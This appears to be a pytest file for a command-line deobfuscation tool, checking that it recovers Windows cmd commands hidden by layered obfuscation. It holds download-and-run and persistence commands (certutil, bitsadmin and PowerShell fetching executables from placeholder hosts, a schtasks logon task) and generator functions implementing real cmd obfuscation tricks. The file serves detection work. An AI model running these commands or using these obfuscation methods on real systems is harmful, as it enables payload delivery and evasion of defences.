"""Commands hidden by our own generators, one upon another, come out as they went in."""

from __future__ import annotations

import random
import re
from collections.abc import Callable

import pytest

from vedette.commands import explain
from vedette.schema.command import Language

COMMANDS = (
    "certutil -urlcache -f http://example.com/dir/a.exe C:\\Windows\\Tasks\\a.exe",
    "bitsadmin /transfer job http://192.0.2.17:8080/x.bin C:\\Users\\Public\\x.bin",
    "powershell -nop -c iwr http://cdn.example.net/p.ps1",
    "schtasks /create /tn updater /tr C:\\ProgramData\\u.exe /sc onlogon",
    "wmic process call create calc.exe",
)


def carets(text: str, rng: random.Random) -> str:
    return "".join(f"^{c}" if c.isalnum() and rng.random() < 0.4 else c for c in text)


def cases(text: str, rng: random.Random) -> str:
    name, _, rest = text.partition(" ")
    return "".join(rng.choice((c.upper(), c.lower())) for c in name) + " " + rest


def pieces(text: str, rng: random.Random) -> str:
    cuts = sorted(rng.sample(range(1, len(text)), 4))
    parts = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    names = rng.sample(["q", "ab", "zz9", "Kx", "w_w", "o"], len(parts))
    order = list(range(len(parts)))
    rng.shuffle(order)
    return "&&".join(f"set {names[i]}={parts[i]}" for i in order) + "&&call " + "".join(f"%{name}%" for name in names)


def backwards(text: str, rng: random.Random) -> str:
    last = len(text) - 1
    return (
        f'cmd /V:ON /C "set r={text[::-1]}&&for /L %k in ({last},-1,0) do set f=!f!!r:~%k,1!'
        f'&&if %k==0 call %f:~-{len(text)}%"'
    )


def picked(text: str, rng: random.Random) -> str:
    letters = list(dict.fromkeys(text))
    rng.shuffle(letters)
    numbers = [str(letters.index(c)) for c in text]
    separator = rng.choice((" ", ",", ";"))
    return (
        f'cmd /V /C "set u={"".join(letters)}&&for %k in ({separator.join([*numbers, "999"])}) do '
        f'set f=!f!!u:~%k,1!&&if %k equ 999 call %f:~-{len(text)}%"'
    )


def replaced(text: str, rng: random.Random) -> str:
    letter = rng.choice([c for c in "aeilt" if c in text])
    return f'set "x={text.replace(letter, "@#")}"&&call %x:@#={letter}%'


def of_system(text: str, rng: random.Random) -> str:
    known = {"C": "windir:~0,1", "i": "windir:~4,1", "n": "windir:~5,1", "P": "ProgramFiles:~3,1", "s": "PUBLIC:~4,1"}
    return "".join(f"%{known[c]}%" if c in known and rng.random() < 0.6 else c for c in text)


def piped(text: str, rng: random.Random) -> str:
    return f"echo {text}|cmd"


def nested(text: str, rng: random.Random) -> str:
    return f'cmd /c "{text}"'


def from_loop(text: str, rng: random.Random) -> str:
    return f'for /f "tokens=*" %z in ("{text}") do %z'


def scripted(text: str, rng: random.Random) -> str:
    return f"echo {text}>C:\\Users\\Public\\s.bat&C:\\Users\\Public\\s.bat"


WAYS: tuple[Callable[[str, random.Random], str], ...] = (
    carets,
    cases,
    pieces,
    backwards,
    picked,
    replaced,
    of_system,
    piped,
    nested,
    from_loop,
    scripted,
)


def flat(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip().casefold()


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_one_way(way: Callable[[str, random.Random], str]) -> None:
    for seed, command in enumerate(COMMANDS):
        hidden = way(command, random.Random(seed))
        layers = explain(hidden, Language.CMD).layers
        assert any(flat(layer.text).endswith(flat(command)) for layer in layers), hidden


@pytest.mark.parametrize(
    "ways",
    [
        (backwards, carets),
        (pieces, nested),
        (picked, nested),
        (replaced, nested, nested),
        (of_system, nested, nested),
        (replaced, nested),
        (nested, nested, nested),
        (carets, nested, nested),
    ],
    ids=lambda ways: "-".join(way.__name__ for way in ways),
)
def test_ways_upon_one_another(ways: tuple[Callable[[str, random.Random], str], ...]) -> None:
    for seed, command in enumerate(COMMANDS):
        rng, hidden = random.Random(seed), command
        for way in ways:
            hidden = way(hidden, rng)
        layers = explain(hidden, Language.CMD).layers
        assert any(flat(command) in flat(layer.text) for layer in layers[1:]), hidden
